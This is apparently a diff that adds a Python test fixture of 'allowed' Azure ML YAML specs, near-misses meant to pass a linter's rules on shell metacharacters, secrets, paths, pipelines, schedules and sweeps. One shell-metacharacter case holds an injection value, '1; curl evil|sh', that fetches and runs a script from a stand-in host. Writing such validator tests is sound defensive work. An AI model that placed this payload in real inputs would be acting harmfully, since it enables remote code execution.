@@ -1,0 +1,148 @@
+"""The allowed twins: for each rule a spec that comes close to breaking it, and does not."""
+
+from __future__ import annotations
+
+from tests.specs.broken import COMMAND, COMPONENT, DEPLOYMENT, LIMITS, PIPELINE, SPACE, SWEEP
+
+_STEP = PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
+_CRON = "name: s\ncreate_job: azureml:j\ntrigger: {type: cron, expression: '%s'}\n"
+
+ALLOWED: dict[str, list[str]] = {
+    "shell-metacharacter": [
+        "environment: azureml:e:1\ncommand: train '${{inputs.x}}'\n"
+        "inputs: {x: '1; curl evil|sh'}\n",
+        "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+        "inputs: {x: two words-1.5_a b=c/d}\n",
+        "environment: azureml:e:1\ncommand: cat ${{inputs.x}}\n"
+        "inputs: {x: {type: uri_folder, path: data}}\n",
+        "environment: azureml:e:1\ncommand: train\ninputs: {unused: 'a; b'}\n",
+        PIPELINE + "  far:\n    component: azureml://registries/r/components/c/versions/1\n"
+        "    inputs: {title: 'a & b (c)', columns: '[\"x\"]'}\n",
+        'environment: azureml:e:1\ncommand: "echo \\"don\'t\\"; train \'${{inputs.x}}\'"\n'
+        "inputs: {x: a|b}\n",
+    ],
+    "plaintext-secret": [
+        COMMAND + f"environment_variables: {{{name}: {value}}}\n"
+        for name, value in {
+            "AZURE_CLIENT_SECRET": "'${{inputs.secret_name}}'",
+            "API_KEY": "''",
+            "DB_PASSWORD": "<your password>",
+            "TOKEN": "$HF_TOKEN",
+            "SECRET_NAME": "train-secret",
+            "KEY_VAULT_URL": "https://team.vault.azure.net/",
+            "STORAGE_KEY": "xxxxXXXXxxxx",
+            "PASSWORD": "'@Microsoft.KeyVault(SecretUri=https://v.vault.azure.net/secrets/s)'",
+            "MAX_TOKENS": "'512'",
+            "TOKENIZERS_PARALLELISM": "'false'",
+        }.items()
+        if "inputs" not in value
+    ]
+    + [
+        COMMAND.replace("hello", "${{inputs.pad_token}}") + "inputs: {pad_token: PAD}\n",
+        COMMAND + "inputs: {x: {path: 'https://a.blob.core.windows.net/c/f.csv?v=1'}}\n",
+        "type: azure_blob\nname: d\naccount_name: a\ncontainer_name: c\n"
+        "credentials: {sas_token: '?sv=XXXX&sig=XXXXXXXXXXXXXXXXXXXXXXXX'}\n",
+    ],
+    "unbound-expression": [
+        "environment: azureml:e:1\ncommand: train ${{ inputs.x }} ${{outputs.y}}\n"
+        "inputs: {x: 1}\noutputs: {y: }\n",
+        COMMAND + "inputs: {x: 1}\nenvironment_variables: {X: '${{inputs.x}}'}\n",
+        SWEEP.replace("${{search_space.rate}}", "${{search_space.deep}}")
+        + LIMITS
+        + "search_space: {kind: {type: choice, values: [{name: a, deep: 1}, {name: b}]}}\n",
+    ],
+    "unknown-expression": [
+        "environment: azureml:e:1\ncommand: echo ${HOME} $(date) [[ x ]]\n",
+        COMMAND + "outputs: {y: {path: 'azureml://datastores/d/paths/${{name}}/'}}\n",
+    ],
+    "optional-without-brackets": [
+        COMPONENT
+        + "inputs: {rate: {type: number, optional: true}}\n"
+        + "command: train $[[--rate ${{inputs.rate}}]]\n",
+    ],
+    "number-too-small": [
+        COMMAND + "resources: {instance_count: 1}\n",
+        COMMAND + "inputs: {timeout: -1, instance_count: -1}\n",
+        DEPLOYMENT + "instance_count: 1\n",
+    ],
+    "path-escape": [
+        COMMAND + "code: ./src/../data\n",
+        COMMAND + "inputs: {x: {path: 'azureml://datastores/d/paths/../x'}, y: {path: data}}\n",
+        COMMAND + "environment_variables: {FOLDER: /etc}\n",
+    ],
+    "link-escape": [COMMAND + "code: src\n"],
+    "missing-file": [
+        COMMAND
+        + "inputs: {x: {path: 'https://example.org/none'}, y: {path: azureml:none@latest}}\n"
+    ],
+    "unknown-step": [PIPELINE],
+    "unknown-output": [
+        _STEP + "      data: ${{parent.jobs.prepare.outputs.prepared}}\n      rate: 1\n"
+        "  use:\n    environment: azureml:e:1\n    command: cat ${{inputs.x}}\n"
+        "    inputs: {x: '${{parent.jobs.train.outputs.model}}'}\n",
+    ],
+    "unknown-parent": [PIPELINE + "outputs: {model: }\n"],
+    "pipeline-cycle": [
+        _STEP + "      data: ${{parent.jobs.prepare.outputs.prepared}}\n      rate: 0\n"
+    ],
+    "missing-input": [_STEP + "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"],
+    "unknown-input": [
+        _STEP + "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n      note: hello\n"
+    ],
+    "input-range": [
+        _STEP + "      data: ${{parent.inputs.faq}}\n      rate: '0.25'\n"
+        "      rounds: 3\n      fast: True\n      kind: fancy\n",
+    ],
+    "port-range": [
+        COMPONENT + "command: c ${{inputs.x}}\n"
+        "inputs: {x: {type: integer, min: 1, max: 5, default: 5}}\n",
+    ],
+    "bad-cron": [
+        _CRON % expression
+        for expression in ("15 16 * * 1", "*/5 0-6 1,15 jan-mar mon-fri", "0 0 * * 7")
+    ],
+    "bad-recurrence": [
+        "name: s\ncreate_job: azureml:j\ntrigger: {type: recurrence, frequency: day, interval: 1, "
+        "schedule: {hours: [0, 23], minutes: [0, 59]}}\n"
+    ],
+    "sweep-without-space": [SWEEP + SPACE + LIMITS],
+    "grid-continuous": [
+        SWEEP
+        + LIMITS
+        + "sampling_algorithm: grid\nsearch_space: {rate: {type: choice, values: [0.1, 0.2]}}\n",
+        SWEEP + SPACE + LIMITS + "sampling_algorithm: random\n",
+    ],
+    "bayesian-distribution": [SWEEP + SPACE + LIMITS + "sampling_algorithm: bayesian\n"],
+    "bayesian-early-termination": [
+        SWEEP + SPACE + LIMITS + "early_termination: {type: bandit, slack_factor: 0.1}\n"
+    ],
+    "log-range": [
+        SWEEP
+        + LIMITS
+        + "search_space: {rate: {type: quniform, min_value: 1, max_value: 9, q: 1}}\n"
+    ],
+    "distribution-bounds": [
+        SWEEP + LIMITS + "search_space: {rate: {type: normal, mu: -5, sigma: 0.1}}\n"
+    ],
+    "unused-search-space": [
+        PIPELINE + "  tune:\n    type: sweep\n    trial: component.yml\n"
+        "    inputs: {data: '${{parent.jobs.prepare.outputs.prepared}}'}\n"
+        "    objective: {goal: maximize, primary_metric: gain}\n"
+        "    search_space: {rate: {type: uniform, min_value: 0, max_value: 1}}\n"
+        "    limits: {max_total_trials: 2}\n"
+    ],
+    "bandit-without-slack": [
+        SWEEP + SPACE + LIMITS + "early_termination: {type: bandit, slack_amount: 0.2}\n"
+    ],
+    "truncation-percentage": [
+        SWEEP
+        + SPACE
+        + LIMITS
+        + "early_termination: {type: truncation_selection, truncation_percentage: 99}\n"
+    ],
+    "trial-limits": [
+        SWEEP + SPACE + "limits: {max_total_trials: 1000, max_concurrent_trials: 100}\n",
+        SWEEP + SPACE + "limits: {max_total_trials: 1, max_concurrent_trials: 1}\n",
+    ],
+    "short-timeout": [SWEEP + SPACE + "limits: {max_total_trials: 2, trial_timeout: 60}\n"],
+}
